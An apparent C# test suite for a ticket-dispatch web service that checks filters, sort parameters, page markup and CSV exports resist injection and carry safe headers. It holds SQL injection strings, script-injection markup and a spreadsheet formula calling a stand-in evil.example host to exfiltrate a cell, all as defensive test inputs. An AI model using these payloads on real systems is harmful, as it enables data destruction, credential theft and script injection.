using System.Net;
using System.Text.Json.Nodes;
using Dispatch.Host.Api;
using Dispatch.Host.Tests.Fuzzing;

namespace Dispatch.Host.Tests;

/// <summary>What stands in a filter is data, in the database and on the pages.</summary>
public sealed class InjectionTests(FiledHost filed) : IClassFixture<FiledHost>
{
    private const string Markup = "<script>alert(1)</script><img src=x onerror=alert(1)>";

    [Theory]
    [InlineData("' OR '1'='1")]
    [InlineData("x'; DROP TABLE tickets; --")]
    [InlineData("%' OR 1=1 --")]
    public async Task Filter_WithSql_FindsNothingMore(string text)
    {
        var document = await ApiDocument.OfAsync(filed.Host.Client());
        var admin = filed.Host.Client("demo-admin");
        foreach (var operation in document.Operations.Where(o => o.Method == "GET" && !o.NamesOne && !o.Path.EndsWith("/stream", StringComparison.Ordinal)))
        {
            foreach (var name in operation.Parameters.Where(p => p.StartsWith("query:", StringComparison.Ordinal) && p is not "query:wait"))
            {
                using var answer = await admin.GetAsync($"{operation.Path}?{name["query:".Length..]}={Uri.EscapeDataString(text)}");
                ((int)answer.StatusCode).Should().BeLessThan(500, $"{operation.Path} {name}");
            }
        }

        (await (await admin.GetAsync($"/api/v1/tickets?q={Uri.EscapeDataString(text)}")).JsonAsync()).GetProperty("items").GetArrayLength().Should().Be(0);
        filed.Host.Count("SELECT COUNT(*) FROM tickets").Should().BePositive();
    }

    [Theory]
    [InlineData("/")]
    [InlineData("/api/v1/tickets")]
    [InlineData("/no/such/page")]
    public async Task Answer_OfAnyKind_CarriesTheSafeHeaders(string path)
    {
        using var answer = await filed.Host.Client().GetAsync(path);
        answer.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
        answer.Headers.GetValues("Referrer-Policy").Should().Equal("same-origin");
        answer.Headers.GetValues("X-Frame-Options").Should().Equal("SAMEORIGIN");
    }

    [Theory]
    [InlineData("/", null)]
    [InlineData("/login", null)]
    [InlineData("/public", null)]
    [InlineData("/inbox", "demo-station-guiyuan")]
    [InlineData("/tickets", "demo-station-guiyuan")]
    [InlineData("/reports", "demo-district")]
    [InlineData("/admin", "demo-admin")]
    [InlineData("/keys", "demo-dept-water")]
    public async Task Page_RunsOnlyScriptsOfOurs(string path, string? key)
    {
        using var answer = await filed.Host.Client(key).GetAsync(path);
        var policy = answer.Headers.GetValues("Content-Security-Policy").Single();
        policy.Should().Contain("default-src 'self'").And.Contain("script-src 'self';").And.Contain("object-src 'none'").And.Contain("frame-ancestors 'self'").And.NotContain("unsafe");
        var html = await answer.Content.ReadAsStringAsync();
        html.Should().NotMatchRegex("<script(?![^>]* src=)|<style|\\sstyle=\"|\\son[a-z]+=\"", "the policy would stop it");
    }

    [Theory]
    [InlineData("/scalar/")]
    [InlineData("/studio/")]
    public async Task Page_OfOthersMaking_HasAPolicyOfItsOwn(string path)
    {
        using var answer = await filed.Host.Client().GetAsync(path);
        var scripts = answer.Headers.GetValues("Content-Security-Policy").Single().Split(';').Single(d => d.Trim().StartsWith("script-src", StringComparison.Ordinal));
        scripts.Should().Contain("'self'").And.NotContain("'unsafe-inline'").And.NotContain("'unsafe-eval'").And.NotContain("*");
    }

    [Theory]
    [InlineData("title; DROP TABLE units")]
    [InlineData("(SELECT hash FROM host_api_keys)")]
    [InlineData("reporter_phone")]
    public async Task Sort_ByWhatIsNotOffered_ChangesNothing(string column)
    {
        foreach (var (path, key) in new[] { ("/tickets", "demo-station-guiyuan"), ("/inbox", "demo-station-guiyuan"), ("/admin/units", "demo-admin") })
        {
            using var plain = await filed.Host.Client(key).GetAsync(path);
            using var answer = await filed.Host.Client(key).GetAsync($"{path}?sort={Uri.EscapeDataString(column)}");
            ((int)answer.StatusCode).Should().BeOneOf([200, 400], path);
            if (answer.StatusCode == HttpStatusCode.OK)
            {
                Rows(await answer.Content.ReadAsStringAsync()).Should().Be(Rows(await plain.Content.ReadAsStringAsync()), path);
            }
        }

        filed.Host.Count("SELECT COUNT(*) FROM units").Should().BePositive();
    }

    [Fact]
    public async Task Text_LikeAFormula_IsTextInEveryFile()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"看\")";
        var admin = filed.Host.Client("demo-admin");
        var station = await (await admin.GetAsync("/api/v1/units/station-guiyuan")).JsonAsync();
        var draft = JsonNode.Parse(station.GetRawText())!.AsObject();
        draft["name"] = Formula;
        foreach (var own in draft.Select(m => m.Key).Except(["kind", "name", "nameEn", "parentId", "validFrom", "validTo"]).ToList())
        {
            draft.Remove(own);
        }

        using (var renamed = await admin.SendAsync(HttpMethod.Put, "/api/v1/units/station-guiyuan", draft.ToJsonString()))
        {
            renamed.StatusCode.Should().Be(HttpStatusCode.OK, await renamed.Content.ReadAsStringAsync());
        }

        foreach (var file in new[] { "/api/v1/units/export?format=csv", "/api/v1/reports/backlog?format=csv&groupBy=station", "/api/v1/reports/tickets?figure=received&format=csv" })
        {
            using var answer = await admin.GetAsync(file);
            if (answer.StatusCode == HttpStatusCode.OK)
            {
                (await answer.Content.ReadAsStringAsync()).Should().NotMatchRegex("(^|,|\n)\"?=", file);
            }
        }

        (await admin.GetStringAsync("/api/v1/units/export?format=csv")).Should().Contain("\"'=HYPERLINK");
        ReportSheet.Quote(Formula).Should().StartWith("\"'=");
        ReportSheet.Quote("+86").Should().Be("'+86");
        ReportSheet.Quote(-5).Should().Be("-5");
    }

    private static string Rows(string html) => string.Concat(System.Text.RegularExpressions.Regex.Matches(html, "(?s)<tbody>.*?</tbody>").Select(m => System.Text.RegularExpressions.Regex.Replace(m.Value, "href=\"[^\"]*\"", "")));

    [Fact]
    public async Task Markup_InTexts_IsShownAsText()
    {
        var body = FiledHost.Body("markup").Replace("停水", Markup, StringComparison.Ordinal).Replace("三天没水", Markup, StringComparison.Ordinal).Replace("王芳", Markup, StringComparison.Ordinal);
        var ticket = await (await filed.Host.Client("demo-hotline").SendAsync(HttpMethod.Post, "/api/v1/tickets", body)).JsonAsync();
        await filed.Host.Client("demo-station-guiyuan").SendAsync(HttpMethod.Post, $"/api/v1/tickets/{ticket.GetProperty("id").GetString()}/comments", System.Text.Json.JsonSerializer.Serialize(new { text = Markup }));
        var pages = new[] { "/tickets", $"/tickets/{ticket.GetProperty("id").GetString()}", $"/track/{ticket.GetProperty("trackingCode").GetString()}", "/inbox" };
        var shown = 0;
        foreach (var page in pages)
        {
            var html = await (await filed.Host.Client("demo-station-guiyuan").GetAsync(page)).Content.ReadAsStringAsync();
            html.Should().NotContain("<script>alert").And.NotContain("<img src=x", page);
            shown += html.Contains("&lt;script&gt;alert", StringComparison.Ordinal) ? 1 : 0;
        }

        shown.Should().BePositive("the text is on the pages, as text");
    }
}
